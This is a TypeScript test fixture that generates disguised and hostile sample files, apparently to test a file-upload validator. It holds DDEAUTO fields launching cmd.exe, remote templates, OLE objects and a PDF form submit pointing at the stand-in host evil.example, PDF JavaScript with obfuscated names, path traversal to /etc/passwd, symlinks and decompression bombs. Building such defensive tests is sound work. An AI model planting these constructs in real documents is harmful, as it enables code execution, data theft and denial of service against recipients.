/** Files that are not what they say, and files that could harm whoever opens them. */
import sharp from 'sharp'
import type { FileExtension } from '#contract/abstracts/rules.ts'
import { aPdf } from './abstracts.ts'
import { aCircularDoc, aDoc, aDocx, aField, anRtf, aZip, packedPdf, relations, utf16 } from './documents.ts'
import { photo } from './pictures.ts'

export type HostileFile = [name: string, extension: FileExtension, bytes: () => Buffer | Promise<Buffer>]

const white = () => sharp({ create: { width: 8, height: 8, channels: 3, background: '#fff' } })
const png = () => white().png().toBuffer()
const cfb = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])

export const wrongKinds: HostileFile[] = [
  ['nothing', 'pdf', () => Buffer.alloc(0)],
  ['nothing called text', 'txt', () => Buffer.alloc(0)],
  ['a program called PDF', 'pdf', () => Buffer.from('MZ\x90\0\x03')],
  ['a page called PDF', 'pdf', () => Buffer.from('<html><script>alert(1)</script>')],
  ['a PDF after five bytes of nothing', 'pdf', () => Buffer.concat([Buffer.from('hello'), aPdf()])],
  ['a drawing with script called PNG', 'png', () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')],
  ['a JPEG called PNG', 'png', () => photo()],
  ['a PNG called JPEG', 'jpg', png],
  [
    'a WebP called PNG',
    'png',
    () =>
      sharp({ create: { width: 8, height: 8, channels: 3, background: '#fff' } })
        .webp()
        .toBuffer(),
  ],
  ['a GIF with script called JPEG', 'jpg', () => Buffer.from('GIF89a/*alert(1)*/=1;')],
  [
    'the first bytes of a PNG and then a page',
    'png',
    () => Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), Buffer.from('<script>')]),
  ],
  ['PostScript called text', 'txt', () => Buffer.from('%!PS-Adobe-3.0 EPSF-3.0')],
  ['a page called text', 'txt', () => Buffer.from('\n  <!DOCTYPE html><script>alert(1)</script>')],
  ['a page in UTF-16 called text', 'txt', () => utf16(' <html>')],
  ['a drawing called text', 'txt', () => Buffer.from('\ufeff<svg onload=alert(1)>')],
  ['a program called text', 'txt', () => Buffer.from('MZ\x90\0\x03\0')],
  ['text with NUL', 'txt', () => Buffer.from('words\0words')],
  ['half a character of UTF-16', 'txt', () => Buffer.concat([utf16('words'), Buffer.from([0, 0xdc, 0, 0xdc])])],
  ['a zip called Word', 'docx', () => aZip([{ name: 'hello.txt', bytes: Buffer.from('x') }])],
  ['a PDF called Word', 'docx', () => aPdf()],
  [
    'a spreadsheet called Word',
    'docx',
    () => aDocx([], { type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml' }),
  ],
  [
    'a Word file with a name that leads out',
    'docx',
    () => aDocx([{ name: '../../etc/passwd', bytes: Buffer.from('x') }]),
  ],
  ['half a Word file', 'docx', () => aDocx().subarray(0, 200)],
  ['a spreadsheet called older Word', 'doc', () => aDoc(['Workbook'])],
  ['the first bytes of an older Word file', 'doc', () => Buffer.concat([cfb, Buffer.alloc(600, 0xff)])],
  ['a newer Word file called older', 'doc', () => aDocx()],
  ['a page called rich text', 'rtf', () => Buffer.from('<html>')],
  ['an older Word file whose tables follow themselves', 'doc', () => aCircularDoc('tables', 40)],
  ['an older Word file whose folder follows itself', 'doc', () => aCircularDoc('folder', 1)],
  ['the head of a JPEG and then a page', 'jpg', () => Buffer.from('\xff\xd8\xff\xe0\0\x10JFIF\0<html>', 'latin1')],
]

export const harmful: HostileFile[] = [
  ['a Word file with macros', 'docx', () => aDocx([{ name: 'word/vbaProject.bin', bytes: Buffer.from('x') }])],
  [
    'a Word file that says it has macros',
    'docx',
    () => aDocx([], { type: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
  ],
  ['an older Word file with macros', 'doc', () => aDoc(['WordDocument', 'Macros', 'VBA', 'dir', '_VBA_PROJECT'])],
  [
    'a Word file that unpacks to 300 MB',
    'docx',
    () => aDocx(Array.from({ length: 6 }, (_, n) => ({ name: `word/${n}.xml`, bytes: Buffer.alloc(50_000_000) }))),
  ],
  [
    'a Word file of one letter, 60 million times',
    'docx',
    () => aDocx([{ name: 'word/a.xml', bytes: Buffer.alloc(60_000_000) }]),
  ],
  [
    'a Word file that hides 60 MB behind 10 bytes',
    'docx',
    () => aDocx([{ name: 'word/a.xml', bytes: Buffer.alloc(60_000_000), claimedSize: 10 }]),
  ],
  [
    'a Word file of 3000 parts',
    'docx',
    () => aDocx(Array.from({ length: 3000 }, (_, n) => ({ name: `word/${n}`, bytes: Buffer.from('x') }))),
  ],
  [
    'a Word file with a link to another file',
    'docx',
    () => aDocx([{ name: 'word/link', bytes: Buffer.from('/etc/passwd'), mode: 0o120777 }]),
  ],
  ['a PDF with script', 'pdf', () => aPdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
  ['a PDF that starts a program', 'pdf', () => aPdf(`${'x'.repeat(1024 * 1024 - 20)}/Launch`)],
  ['rich text that runs when it is opened', 'rtf', () => anRtf('{\\object\\objupdate}')],
  ['a picture of 900 million points', 'png', hugePng],
  ...actingWord(),
  ...startingWord(),
  ...actingPdf(),
  ...actingText(),
]

/** Word files with macros, or that fetch something when they are opened. */
function actingWord(): HostileFile[] {
  const template = (target: string) => () => aDocx([relations(['attachedTemplate', target])])
  const other = 'http://schemas.microsoft.com/office/2006/relationships/vbaProject'
  const container = Buffer.concat([cfb, Buffer.alloc(600)])
  const part = (name: string, bytes: Buffer = Buffer.from('x')) => ({ name, bytes })
  const kinds = (type: string) =>
    `<Override PartName="/word/notes.dat" ContentType="application/vnd.${type}"/><Default Extension="xml" ContentType="application/xml"/>`
  const nested = aZip([part('xl/workbook.xml'), part('xl/vbaProject.bin')])
  return [
    ['a Word file with a template on the web', 'docx', template('http://evil.example/t.dotm')],
    ['a Word file with a template on a share', 'docx', template('\\\\evil.example\\share\\t.dotm')],
    ['a Word file with a template on a share, as an address', 'docx', template('file:///%5C%5Cevil.example%5Ct.dotm')],
    [
      'a Word file with an object from the web',
      'docx',
      () => aDocx([relations(['oleObject', 'https://evil.example/x'])]),
    ],
    [
      'a Word file with an object',
      'docx',
      () => aDocx([relations(['oleObject', 'media/a.png', true]), part('word/media/a.png')]),
    ],
    [
      'a Word file with a frame from the web',
      'docx',
      () => aDocx([relations(['frame', 'https://evil.example/x.html'])]),
    ],
    ['a Word file with a picture on a share', 'docx', () => aDocx([relations(['image', '\\\\evil.example\\a.png'])])],
    [
      'a Word file with macros under another name',
      'docx',
      () => aDocx([relations([other, 'notes.dat', true]), part('word/notes.dat')]),
    ],
    [
      'a Word file with macros known by their kind',
      'docx',
      () => aDocx([part('word/notes.dat')], { kinds: kinds('ms-office.vbaProject') }),
    ],
    [
      'a Word file with an object known by its kind',
      'docx',
      () => aDocx([part('word/notes.dat')], { kinds: kinds('openxmlformats-officedocument.oleObject') }),
    ],
    [
      'a Word file with macros known by nothing but their bytes',
      'docx',
      () => aDocx([part('word/media/image1.png', container)]),
    ],
    ['a Word file with a spreadsheet that has macros', 'docx', () => aDocx([part('word/embeddings/a.xlsx', nested)])],
  ]
}

/** Word files that start another program. */
function startingWord(): HostileFile[] {
  const wide = (xml: string) => utf16(`<?xml version="1.0" encoding="UTF-16"?>${xml}`)
  return [
    [
      'a Word file that starts a program',
      'docx',
      () => aDocx([], { body: aField(' DDEAUTO c:\\windows\\cmd.exe "/k calc" ') }),
    ],
    [
      'a Word file that starts a program, in pieces',
      'docx',
      () => aDocx([], { body: aField(' D', 'D', 'EAU&#84;O c:\\cmd.exe') }),
    ],
    [
      'a Word file that starts a program, briefly',
      'docx',
      () => aDocx([], { body: '<w:fldSimple w:instr="dde excel x"/>' }),
    ],
    [
      'a Word file that works out which program to start',
      'docx',
      () =>
        aDocx([], {
          body: aField('</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 68 68 69'),
        }),
    ],
    [
      'a Word file that starts a program, in wide letters',
      'docx',
      () => aDocx([{ name: 'word/footer1.xml', bytes: wide(aField('DDE x')) }]),
    ],
    [
      'an older Word file that starts a program',
      'doc',
      () => Buffer.concat([aDoc(), Buffer.from('\x13 DDEAUTO c:\\cmd.exe \x14', 'latin1')]),
    ],
    [
      'an older Word file that starts a program, in wide letters',
      'doc',
      () => Buffer.concat([aDoc(), Buffer.from('\x13 DDE x \x14', 'utf16le')]),
    ],
    ['an older Word file with a program in it', 'doc', () => aDoc(['WordDocument', 'ObjectPool', '\x01Ole10Native'])],
    ['an older Word file with macros in small letters', 'doc', () => aDoc(['WordDocument', 'Macros', 'vba'])],
  ]
}

function actingPdf(): HostileFile[] {
  return [
    ['a PDF with script, disguised', 'pdf', () => aPdf('/OpenAction << /S /Java#53cript /JS (app.alert(1)) >>')],
    ['a PDF with script, all disguised', 'pdf', () => aPdf('/#4a#61#76#61#53#63#72#69#70#74 1')],
    ['a PDF with a file in it', 'pdf', () => aPdf('/Type /EmbeddedFile')],
    [
      'a PDF with a file in it that is not called so',
      'pdf',
      () => aPdf('/Type /Filespec /F (a.exe) /EF << /F 9 0 R >>'),
    ],
    ['a PDF whose form is sent somewhere', 'pdf', () => aPdf('/S /SubmitForm /F (https://evil.example)')],
    ['a PDF with script among packed objects', 'pdf', () => packedPdf('8 0 << /S /JavaScript /JS (app.alert(1)) >>')],
    ['a PDF with disguised script among packed objects', 'pdf', () => packedPdf('8 0 << /S /J#61vaScript >>')],
    [
      'a PDF with script, packed and disguised',
      'pdf',
      () => Buffer.from(packedPdf('8 0 << /S /Launch >>').toString('latin1').replace('/ObjStm', '/Obj#53tm'), 'latin1'),
    ],
    [
      'a PDF whose objects are packed in an odd way',
      'pdf',
      () => packedPdf('8 0 <<>>', '/Filter [/ASCIIHexDecode /FlateDecode]'),
    ],
    ['a PDF whose objects unpack to 40 MB', 'pdf', () => packedPdf(' '.repeat(40_000_000))],
  ]
}

function actingText(): HostileFile[] {
  return [
    ['rich text with a template on the web', 'rtf', () => anRtf('{\\*\\template http://evil.example/t.dotm}')],
    [
      'rich text with a template on the web, disguised',
      'rtf',
      () => anRtf("{\\*\\template \\'68\\u116?tp://evil.example/t.dotm}"),
    ],
    ['rich text with a template on a share', 'rtf', () => anRtf('{\\*\\template \\\\\\\\evil.example\\\\t.dotm}')],
    ['rich text with a control', 'rtf', () => anRtf('{\\object\\objocx{\\*\\objdata 0105}}')],
    ['rich text with an object', 'rtf', () => anRtf('{\\object\\objemb{\\*\\objdata 0105}}')],
    ['rich text that starts a program', 'rtf', () => anRtf('{\\field{\\*\\fldinst {\\b D}{\\i DE x}}}')],
    ['rich text of fields and nothing else', 'rtf', () => anRtf('{\\fldinst x}'.repeat(30_000))],
  ]
}

/** Only the header: it claims 30,000 by 30,000. */
function hugePng(): Buffer {
  const header = Buffer.from(
    '89504e470d0a1a0a0000000d49484452000075300000753008020000005e3d3f110000000c4944415478',
    'hex',
  )
  return Buffer.concat([header, Buffer.from('da63f8cfc0000003010100c9fe92ef0000000049454e44ae426082', 'hex')])
}
